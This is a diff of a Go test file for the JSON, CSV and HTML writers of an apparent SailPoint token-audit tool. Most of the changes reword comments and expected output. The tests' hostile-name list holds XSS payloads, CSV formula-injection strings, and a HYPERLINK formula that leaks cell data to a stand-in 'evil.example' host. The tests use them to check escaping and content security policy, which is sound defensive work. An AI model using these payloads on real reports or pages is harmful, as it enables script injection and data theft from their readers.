@@ -30,7 +30,8 @@ func ptr[T any](v T) *T { return &v }
 
 var at = time.Date(2026, 3, 1, 12, 30, 0, 0, time.FixedZone("", 3600))
 
-// small has one finding of each shape: of a token that tells everything, of one that tells little, of an owner.
+// small has a finding about a token with every member, one about a token with
+// few members, and one about an owner.
 func small() *lifecycle.Report {
 	owner := sailpoint.PersonalAccessTokenOwner{Type: "IDENTITY", ID: "o1", Name: "Ana"}
 	full := sailpoint.PersonalAccessToken{
@@ -44,13 +45,13 @@ func small() *lifecycle.Report {
 		Findings: []lifecycle.Finding{
 			{Kind: lifecycle.FindingStale, Token: full, Text: "Stale."},
 			{Kind: lifecycle.FindingExpired, Token: full, Text: "Expired."},
-			{Kind: lifecycle.FindingNoExpiry, Token: sailpoint.PersonalAccessToken{ID: "t2", Owner: sailpoint.PersonalAccessTokenOwner{Type: "IDENTITY", ID: "o2"}}, Text: "None told."},
+			{Kind: lifecycle.FindingNoExpiry, Token: sailpoint.PersonalAccessToken{ID: "t2", Owner: sailpoint.PersonalAccessTokenOwner{Type: "IDENTITY", ID: "o2"}}, Text: "No expiry reported."},
 			{Kind: lifecycle.FindingNearLimit, Token: sailpoint.PersonalAccessToken{Owner: owner}, Text: "Near."},
 		},
 	}
 }
 
-// write returns what a writer writes.
+// write returns the written text.
 func write(t *testing.T, to func(io.Writer, *lifecycle.Report) error, r *lifecycle.Report) string {
 	t.Helper()
 	var out bytes.Buffer
@@ -58,7 +59,8 @@ func write(t *testing.T, to func(io.Writer, *lifecycle.Report) error, r *lifecyc
 	return out.String()
 }
 
-// TestNoReport, and one that holds nothing.
+// TestNoReport checks that a nil report is an error, and that an empty report
+// is written.
 func TestNoReport(t *testing.T) {
 	for name, to := range map[string]func(io.Writer, *lifecycle.Report) error{
 		"json": report.WriteJSON, "csv": report.WriteCSV, "html": report.WriteHTML,
@@ -80,7 +82,7 @@ func TestJSON(t *testing.T) {
 		`"tokens":12,"counts":{"expired":1,"near-limit":1,"no-expiry":1,"stale":1},` +
 		`"owners":[{` + ana + `,"tokens":9,"managed":1,"findings":3},{` + nobody + `,"tokens":2,"managed":0,"findings":1}],` +
 		`"findings":[{"kind":"stale","text":"Stale.",` + ana + `,` + full + `},{"kind":"expired","text":"Expired.",` + ana + `,` + full + `},` +
-		`{"kind":"no-expiry","text":"None told.",` + nobody + `,"token":{"id":"t2","name":"","scope":[],` + nobody + `,"created":"0001-01-01T00:00:00Z"}},` +
+		`{"kind":"no-expiry","text":"No expiry reported.",` + nobody + `,"token":{"id":"t2","name":"","scope":[],` + nobody + `,"created":"0001-01-01T00:00:00Z"}},` +
 		`{"kind":"near-limit","text":"Near.",` + ana + `}]}`
 	assert.Equal(t, want, regexp.MustCompile(`\n\t*|(": )`).ReplaceAllStringFunc(write(t, report.WriteJSON, small()), strings.TrimSpace))
 	assert.Contains(t, write(t, report.WriteJSON, &lifecycle.Report{}), `"findings": []`, "of an empty report")
@@ -90,12 +92,12 @@ func TestCSV(t *testing.T) {
 	assert.Equal(t, `kind,finding,token_id,token_name,owner_id,owner_name,created,last_used,expires,scope,bearer_seconds
 stale,Stale.,t1,nightly,o1,Ana,2025-07-01T11:30:00Z,2025-10-01T11:30:00Z,2026-01-01T11:30:00Z,a b,900
 expired,Expired.,t1,nightly,o1,Ana,2025-07-01T11:30:00Z,2025-10-01T11:30:00Z,2026-01-01T11:30:00Z,a b,900
-no-expiry,None told.,t2,,o2,,,,,,
+no-expiry,No expiry reported.,t2,,o2,,,,,,
 near-limit,Near.,,,o1,Ana,,,,,
 `, write(t, report.WriteCSV, small()))
 }
 
-// hostile is what a token's or an owner's name may be, in the hope that somebody opens a report of it.
+// hostile lists names that an attacker could give a token or an owner.
 var hostile = []string{
 	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `' onmouseover='alert(1)`, `</title></style></script><script>alert(1)</script>`,
 	`</td></tr></table><h1>x`, `{{.Token}}`, `javascript:alert(1)`, `<!--`, `]]>`, "a\x00b", "a\u202eexe.txt", "a\xff", "<svg/onload=alert(1)>",
@@ -103,7 +105,7 @@ var hostile = []string{
 	"x\u2028=1+1", "\u00a0=1+1", "\u3000＝1+1", "\u200b=1+1", "\ufeff=1+1", "\v=1+1", "\u0085=1+1", "\u009f@SUM(1)", " \t\r =1+1", "x;\u00a0=1+1", "﹦1+1", "\u22121+1", `=HYPERLINK("https://evil.example/?"&A1)`, strings.Repeat("long ", 1000), "",
 }
 
-// hostileReport has each hostile text in every place that an owner can write to.
+// hostileReport has each hostile text in every place that an owner can choose.
 func hostileReport() *lifecycle.Report {
 	r := &lifecycle.Report{At: at, Tokens: len(hostile), Counts: map[lifecycle.Kind]int{lifecycle.FindingNoExpiry: len(hostile)}}
 	for _, text := range hostile {
@@ -116,8 +118,8 @@ func hostileReport() *lifecycle.Report {
 	return r
 }
 
-// TestHostileNamesInCSV: no cell is a formula, for a program that splits lines at commas, semicolons or tabs, and
-// whether it minds quotes or not.
+// TestHostileNamesInCSV checks that no cell is a formula. It covers programs
+// that split lines at commas, semicolons or tabs, with or without quotes.
 func TestHostileNamesInCSV(t *testing.T) {
 	out := write(t, report.WriteCSV, hostileReport())
 	records, err := csv.NewReader(strings.NewReader(out)).ReadAll()
@@ -139,8 +141,10 @@ func TestHostileNamesInCSV(t *testing.T) {
 	assert.NotRegexp(t, `[\x00-\x09\x0b-\x1f]`, out)
 }
 
-// TestIDsInCSVAreNoNumbers: a spreadsheet would keep 15 digits of them. bearer_seconds stays a number, a time a time.
-func TestIDsInCSVAreNoNumbers(t *testing.T) {
+// TestIDsInCSVStayText checks that a spreadsheet treats IDs as text, because it
+// would keep only 15 digits. bearer_seconds stays a number, and a time stays a
+// time.
+func TestIDsInCSVStayText(t *testing.T) {
 	for text, want := range map[string]string{
 		"12345678901234567890123456789012": "'12345678901234567890123456789012",
 		"123456789012":                     "'123456789012",
@@ -165,7 +169,8 @@ func TestIDsInCSVAreNoNumbers(t *testing.T) {
 	}
 }
 
-// TestCSVHasNoByteOrderMark: most programs would take it for a part of the first title.
+// TestCSVHasNoByteOrderMark guards most programs, which would treat a byte
+// order mark as part of the first title.
 func TestCSVHasNoByteOrderMark(t *testing.T) {
 	assert.True(t, strings.HasPrefix(write(t, report.WriteCSV, small()), "kind,"))
 }
@@ -177,7 +182,8 @@ func TestHostileNamesInJSON(t *testing.T) {
 	assert.Contains(t, out, `"name": "\u003cscript\u003ealert(1)\u003c/script\u003e"`)
 }
 
-// TestHostileNamesInHTML: they are text, and nothing else is in the page than what is there without them.
+// TestHostileNamesInHTML checks that names are shown as text and add nothing to
+// the page.
 func TestHostileNamesInHTML(t *testing.T) {
 	out := write(t, report.WriteHTML, hostileReport())
 	content := withoutAssets(t, out)
@@ -188,18 +194,18 @@ func TestHostileNamesInHTML(t *testing.T) {
 	assert.Equal(t, 1, strings.Count(strings.ToLower(content), "<script"))
 	assert.Equal(t, 1, strings.Count(strings.ToLower(content), "</script"))
 	unquoted := regexp.MustCompile(`"[^"]*"`).ReplaceAllString(content, `""`)
-	assert.Empty(t, regexp.MustCompile(`(?i)<[^>]*\son[a-z]+\s*=`).FindString(unquoted), "no handler in a tag")
+	assert.Empty(t, regexp.MustCompile(`(?i)<[^>]*\son[a-z]+\s*=`).FindString(unquoted), "no tag may have an event handler")
 	shown := html.UnescapeString(content)
 	for _, text := range hostile {
 		if text == "" || strings.ContainsRune(text, 0) || !utf8.ValidString(text) {
 			continue
 		}
-		assert.True(t, strings.Contains(shown, "<bdi>"+text+"</bdi>"), "%.40q is shown as it is, cut off from the direction of the text around", text) //nolint:testifylint // Contains would print the page
+		assert.True(t, strings.Contains(shown, "<bdi>"+text+"</bdi>"), "%.40q must be shown unchanged, in its own text direction", text) //nolint:testifylint // Contains would print the page
 	}
 }
 
-// withoutAssets returns the page without its style and script, after checking that the browser is told to take these
-// and no others.
+// withoutAssets returns the page without its style and script. It checks that
+// the content security policy allows only these two.
 func withoutAssets(t *testing.T, page string) string {
 	t.Helper()
 	found := regexp.MustCompile(`<meta http-equiv="Content-Security-Policy" content="([^"]*)">`).FindStringSubmatch(page)
@@ -211,7 +217,7 @@ func withoutAssets(t *testing.T, page string) string {
 		asset := regexp.MustCompile(`(?s)<` + name + `>(.*?)</` + name + `>`).FindStringSubmatch(page)
 		require.NotNil(t, asset, name)
 		sum := sha256.Sum256([]byte(asset[1]))
-		assert.Contains(t, policy, name+"-src 'sha256-"+base64.StdEncoding.EncodeToString(sum[:])+"'", "the hash of what is there")
+		assert.Contains(t, policy, name+"-src 'sha256-"+base64.StdEncoding.EncodeToString(sum[:])+"'", "the hash of this asset")
 		page = strings.Replace(page, asset[1], "", 1)
 		assert.NotRegexp(t, `(?i)url\(|@import|https?:|fetch|import\(|innerHTML|eval`, asset[1])
 	}
@@ -227,26 +233,26 @@ func TestHTMLLoadsNothing(t *testing.T) {
 func TestHTMLShowsTheReport(t *testing.T) {
 	content := withoutAssets(t, write(t, report.WriteHTML, small()))
 	for _, want := range []string{
-		"As of 2026-03-01 11:30 UTC. 12 tokens of 2 owners were looked at; something was found of <strong>2</strong> of them.",
+		"As of 2026-03-01 11:30 UTC. The audit covered 12 tokens of 2 owners. <strong>2</strong> of the tokens have findings.",
 		`data-kind="expired" aria-pressed="false" class="warn"><span>Expired</span>`,
 		`<bdi>Ana</bdi> <em class="chip warn">near the limit</em>`,
 		`<b>9</b> tokens, 1 managed, 3 findings`,
 		`<bdi>o2</bdi></span>`, // an owner without a name
 		`<tr data-kinds="stale expired">`,
-		`<em class="chip idle">Not used for long</em> Stale.`,
+		`<em class="chip idle">Long unused</em> Stale.`,
 		`<td data-label="Last used" data-sort="0" data-number>never</td>`,
-		`data-number>not told</td>`,
+		`data-number>not reported</td>`,
 		`<title>July 2025: 1 created</title>`,
 		`<title>January 2026: 1 expired</title>`,
-		`1 expired, <i class="ends"></i>0 to expire; 1 tell no expiry`,
+		`1 expired, <i class="ends"></i>0 will expire, 1 without a reported expiry`,
 		`<tr data-kinds="near-limit" data-owner>`,
 	} {
 		assert.Contains(t, content, want)
 	}
-	assert.Contains(t, write(t, report.WriteHTML, &lifecycle.Report{At: at}), "Nothing was found.")
+	assert.Contains(t, write(t, report.WriteHTML, &lifecycle.Report{At: at}), "No findings.")
 }
 
-// TestTimeLineStaysOnThePage, whatever a token's dates are.
+// TestTimeLineStaysOnThePage checks tokens with extreme dates.
 func TestTimeLineStaysOnThePage(t *testing.T) {
 	r := &lifecycle.Report{At: at}
 	for i, year := range []int{-1, 1, 1970, 2024, 2026, 2027, 2100, 9999} {
@@ -261,10 +267,11 @@ func TestTimeLineStaysOnThePage(t *testing.T) {
 	}
 	assert.NotRegexp(t, `(width|height)="-`, content)
 	assert.Equal(t, 8, strings.Count(content, "<circle"))
-	assert.Less(t, len(content), 50_000, "months between are not drawn by the thousand")
+	assert.Less(t, len(content), 50_000, "thousands of empty months must not be drawn")
 }
 
-// TestReportOfATenant writes what an audit found, without anything secret.
+// TestReportOfATenant checks that an audit's report holds no secret, and that a
+// failed write is reported.
 func TestReportOfATenant(t *testing.T) {
 	tenant := sailpointtest.NewTenant()
 	client, err := sailpoint.NewClient(tenant.Config())
